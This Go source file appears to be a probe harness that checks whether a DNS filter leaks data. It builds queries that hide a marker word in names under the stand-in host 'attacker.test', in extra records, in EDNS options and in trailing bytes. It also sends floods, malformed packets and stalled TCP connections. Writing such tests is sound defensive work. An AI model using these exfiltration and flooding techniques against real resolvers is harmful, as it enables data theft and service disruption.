package probe

import (
	"context"
	"encoding/binary"
	"fmt"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// message writes what is to be asked, with a word in it that is the shot's.
type message func(word string) []byte

// lookup sends a message to a name server.
func lookup(kind int, write message) sender {
	return func(ctx context.Context, s shot) error {
		s.text = write("leak-" + s.name)
		if kind == unix.SOCK_STREAM {
			s.text = append(binary.BigEndian.AppendUint16(nil, uint16(len(s.text))), s.text...)
			return through(kind, 0, func(fd int, s shot) error {
				if err := connect(fd, s); err != errSent {
					return err
				}
				// The answer, or what is said would be reset.
				fds := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}
				_, err := unix.Poll(fds, 300)
				return done(err)
			})(ctx, s)
		}
		// From one that waits: an answer to nobody would be refused.
		return datagram(s, func(fd int, s shot) error { return done(answered(fd, s)) })
	}
}

// header is a message's (RFC 1035, 4.1.1), with counts of its four parts.
func header(flags byte, counts ...byte) []byte {
	h := []byte{0x6b, 0x67, flags | 1, 0}
	for i := range 4 {
		n := byte(0)
		if i < len(counts) {
			n = counts[i]
		}
		h = append(h, 0, n)
	}
	return h
}

// labels are a name, and entry is one with a type and a class: a question.
func labels(all ...string) []byte {
	var b []byte
	for _, l := range all {
		b = append(append(b, byte(len(l))), l...)
	}
	return append(b, 0)
}

func entry(kind, class uint16, name []byte) []byte {
	name = binary.BigEndian.AppendUint16(name, kind)
	return binary.BigEndian.AppendUint16(name, class)
}

func attacker(word string) []byte { return labels(word, "attacker", "test") }

// allowed asks for what is listed.
var allowed = entry(1, 1, labels("allowed", "test"))

func plainQuestion(word string) []byte { return typed(1, 1)(word) }

func typed(kind, class uint16) message {
	return func(word string) []byte { return append(header(0, 1), entry(kind, class, attacker(word))...) }
}

// named asks for a name of these labels, with LEAK for the word.
func named(all ...string) message {
	return func(word string) []byte {
		var own []string
		for _, l := range all {
			own = append(own, strings.Replace(l, "LEAK", word, 1))
		}
		return append(header(0, 1), entry(1, 1, labels(own...))...)
	}
}

// longName is as long as names may be: 255 bytes on the wire.
func longName(word string) []byte {
	long := strings.Repeat("x", 60)
	return append(header(0, 1), entry(16, 1, labels(word+long[:60-len(word)], long, long, long[:50], "test"))...)
}

// pointed writes the name after the question, which points at it.
func pointed(word string) []byte {
	return append(append(header(0, 1), entry(1, 1, []byte{0xc0, 18})...), attacker(word)...)
}

func twoQuestions(word string) []byte {
	return append(append(header(0, 2), allowed...), entry(1, 1, attacker(word))...)
}

// extraRecord asks for what is listed and adds a text record of its own.
func extraRecord(word string) []byte {
	record := append(entry(16, 1, labels("allowed", "test")), 0, 0, 0, 0, 0, byte(len(word)+1), byte(len(word)))
	return append(append(append(header(0, 1, 0, 0, 1), allowed...), record...), word...)
}

// optionRecord does so with an option of EDNS (RFC 6891) for local use.
func optionRecord(word string) []byte {
	record := append(entry(41, 1232, []byte{0}), 0, 0, 0, 0, 0, byte(len(word)+4), 0xfd, 0xe9, 0, byte(len(word)))
	return append(append(append(header(0, 1, 0, 0, 1), allowed...), record...), word...)
}

func trailing(word string) []byte { return append(append(header(0, 1), allowed...), word...) }

func headed(flags byte) message {
	return func(word string) []byte { return append(header(flags, 1), entry(6, 1, attacker(word))...) }
}

// flood sends two thousand messages in about a second.
func flood(write func(word string, n int) []byte) sender {
	return func(ctx context.Context, s shot) error {
		return datagram(s, func(fd int, s shot) error {
			_, where := sockaddr(s.to)
			for n := 0; n < 2000 && ctx.Err() == nil; n++ {
				// What a full queue refuses is part of a flood.
				_ = unix.Sendto(fd, write("leak-"+s.name, n), unix.MSG_DONTWAIT, where)
				if n%50 == 49 {
					time.Sleep(20 * time.Millisecond)
				}
			}
			return done(ctx.Err())
		})
	}
}

func manyNames(word string, n int) []byte {
	return append(header(0, 1), entry(1, 1, labels(fmt.Sprintf("%s-%d", word, n), "attacker", "test"))...)
}

// malformed cuts a question, points its name at itself, counts questions that
// are not there, or is nothing but ones.
func malformed(word string, n int) []byte {
	q := plainQuestion(word)
	switch n % 4 {
	case 0:
		return q[:n%len(q)]
	case 1:
		return append(q[:12:12], 0xc0, 12, 0, 1, 0, 1)
	case 2:
		q[4], q[5] = 0xff, 0xff
	case 3:
		for i := range 12 {
			q[i] = 0xff
		}
	}
	return q
}

// idle keeps forty connections open for a second and says nothing but a part of
// a question on each.
func idle(_ context.Context, s shot) error {
	var open func(n int) error
	open = func(n int) error {
		if n == 0 {
			time.Sleep(time.Second)
			return errSent
		}
		return through(unix.SOCK_STREAM, 0, func(fd int, s shot) error {
			_, where := sockaddr(s.to)
			if err := connected(fd, where); err != nil {
				return err
			}
			if _, err := unix.Write(fd, []byte{0, 40, 0}); err != nil {
				return err
			}
			return done(open(n - 1))
		})(context.Background(), s)
	}
	return open(40)
}
